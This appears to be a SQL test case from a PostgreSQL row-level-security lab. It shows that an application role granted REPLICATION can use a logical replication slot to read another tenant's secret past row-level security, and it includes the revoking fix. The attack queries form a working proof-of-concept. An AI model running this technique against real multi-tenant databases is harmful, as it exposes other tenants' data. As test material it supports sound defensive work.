-- a publication of tables of tenants, and the application role may subscribe

--- setup
ALTER ROLE rls_app REPLICATION; CREATE PUBLICATION "to warehouse" FOR TABLE app.project;

--- attack
--- as rls_app
SELECT pg_create_logical_replication_slot('rls_p01', 'pgoutput');
--- as postgres
UPDATE app.project SET secret='victim-secret-3' WHERE tenant_id=2;
--- as rls_app
SELECT lab.v(count(*)>0,'changes of tenant 2') FROM pg_logical_slot_peek_binary_changes('rls_p01',NULL,NULL,'proto_version','1','publication_names','"to warehouse"') WHERE position('victim-secret-3'::bytea IN data)>0;
--- as postgres
SELECT pg_drop_replication_slot(slot_name) FROM pg_replication_slots WHERE slot_name='rls_p01';

--- fix
ALTER ROLE rls_app NOREPLICATION;
